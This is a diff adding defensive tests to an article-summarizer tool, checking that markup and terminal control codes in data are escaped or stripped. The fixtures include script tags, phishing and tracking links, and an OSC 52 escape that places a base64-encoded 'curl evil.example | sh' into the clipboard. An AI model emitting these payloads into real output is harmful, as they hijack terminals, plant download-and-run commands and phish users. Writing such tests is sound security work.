@@ -14,16 +14,25 @@ from contextlib import contextmanager
 from dataclasses import replace
 
 import pytest
-from conftest import SAMPLE, QuietHandler, loopback_server
+import typer
+from conftest import ROOT, SAMPLE, QuietHandler, loopback_server
 from fake_openai import fake_openai, recorded_ok
+from rich.console import Console
 from typer.testing import CliRunner
 
+from summarizer.article import read_article
 from summarizer.cli import app
-from summarizer.errors import InputError
+from summarizer.console import fail
+from summarizer.errors import InputError, ModelError
 from summarizer.freetext import check_free_text
 from summarizer.pipeline import Summarizer
-from summarizer.sources import load_article
+from summarizer.render import to_markdown
+from summarizer.render.text import to_renderable
+from summarizer.schema import Brief, BriefDraft
+from summarizer.sources import load_article, load_bytes
 from summarizer.sources import url as url_module
+
+SNAPSHOTS = ROOT / "tests" / "snapshots"
 
 runner = CliRunner()
 
@@ -248,3 +257,86 @@ def test_credentials_and_tokens_never_reach_errors_or_the_brief(monkeypatch, rep
         brief = Summarizer(settings).summarize(ARTICLE, source="https://u:p@cdn.example/a?access_token=t0k3n&page=2")
     assert brief.meta.source == "https://cdn.example/a?page=2"
     assert "t0k3n" not in brief.model_dump_json()
+
+
+# --- 4. No markup from data in the terminal or in Markdown -----------------------------------------
+
+HOSTILE_TEXT = [
+    "[/]", "[/red] aborted", "[link=https://phish.example]official statement[/link]", "[bold red]URGENT[/]",
+    "<script>alert(1)</script>", "[login](https://phish.example)", "![x](https://track.example/q.png)",
+    "<img src=https://track.example/q.png>", "https://phish.example/login", "&lt;b&gt;", "# Heading", "*bold* _it_",
+]
+
+
+def _sample_brief() -> Brief:
+    return Brief.model_validate_json((SNAPSHOTS / "sample_brief.json").read_text(encoding="utf-8"))
+
+
+def _hostile_brief(text: str) -> Brief:
+    brief = _sample_brief()
+    brief.headline, brief.summary, brief.what = f"Strikes {text}", f"Summary {text}", [f"Event {text}"]
+    brief.who[0].role = f"spokesman {text}"
+    brief.positions[0].stance = f"Stance {text}"
+    brief.open_questions = [f"Question {text}?"]
+    brief.meta.warnings = [f"warning {text}"]
+    return brief
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXT)
+def test_model_text_reaches_the_terminal_as_text_never_markup(text: str) -> None:
+    console = Console(record=True, width=200, force_terminal=True, color_system="truecolor")
+    console.print(to_renderable(_hostile_brief(text)))  # main: MarkupError for "[/]" in a role
+    shown = console.export_text()
+    assert f"spokesman {text}" in shown.replace("\n", "") or text in shown
+    assert "\x1b]8;" not in console.export_text(styles=True), "no hyperlink from data"
+
+
+def test_an_error_quoting_markup_is_printed_as_one_plain_line(capsys) -> None:
+    with pytest.raises(typer.Exit) as exited:
+        fail(ModelError("the model refused: [/red] [link=https://phish.example]x[/link]"), verbose=False)
+    assert exited.value.exit_code == ModelError.exit_code
+    assert "[/red] [link=https://phish.example]x[/link]" in capsys.readouterr().err
+
+
+def test_a_failed_article_in_a_batch_does_not_abort_the_progress_display() -> None:
+    from summarizer.batch.progress import BarProgress
+    from summarizer.batch.runner import BatchResult
+
+    console = Console(record=True, width=200)
+    with BarProgress(console) as progress:
+        progress.start(total=2, skipped=0)
+        progress.advance(BatchResult(index=0, source="a.txt", error=ModelError("refusal [/red] here")))
+        progress.phase("part [/] 2")
+    shown = console.export_text()
+    assert "failed refusal [/red] here" in shown and "… part [/] 2" in shown
+
+
+@pytest.mark.parametrize(
+    "sequence",
+    ["\x1b[2J", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "\x1b]8;;https://phish.example\x1b\\", "\x9b31m",
+     "\x07", "\x08\x08\x08", "\x7f"],
+    ids=ascii,
+)
+def test_control_characters_are_removed_when_the_article_is_read(sequence: str, tmp_path) -> None:
+    path = tmp_path / "article.txt"
+    path.write_text(ARTICLE.replace("Kirby reaffirmed", f"Kirby{sequence} reaffirmed"), encoding="utf-8")
+    for text in (read_article(path).text, load_article(path).text, load_bytes(path.read_bytes(), "inbox").text):
+        assert not any(ch in text for ch in "\x1b\x07\x08\x7f\x9b") and "Kirby" in text
+        assert "\n" in text and "\t" not in sequence
+    draft = BriefDraft.model_validate({**_draft_fields(), "headline": f"Strikes{sequence} in Syria"})
+    assert "\x1b" not in draft.headline and "\x07" not in draft.headline
+
+
+def _draft_fields() -> dict[str, object]:
+    return {"headline": "x" * 10, "summary": "y" * 30, "who": [{"name": "Kirby", "kind": "person"}],
+            "what": ["an event"], "where": [], "when": [], "positions": [], "open_questions": []}
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEXT)
+def test_markdown_output_escapes_html_links_and_images_in_data(text: str) -> None:
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").enable("table").render(to_markdown(_hostile_brief(text)))
+    for produced in ("<a ", "<img", "<script", "<b>", "<h1>Heading", "<em>bold", "<strong>bold"):
+        assert produced not in html, f"{produced} from data: {html}"
+    assert html.count("<h1>") == 1 and "<h2>" in html  # the layout's own headings remain
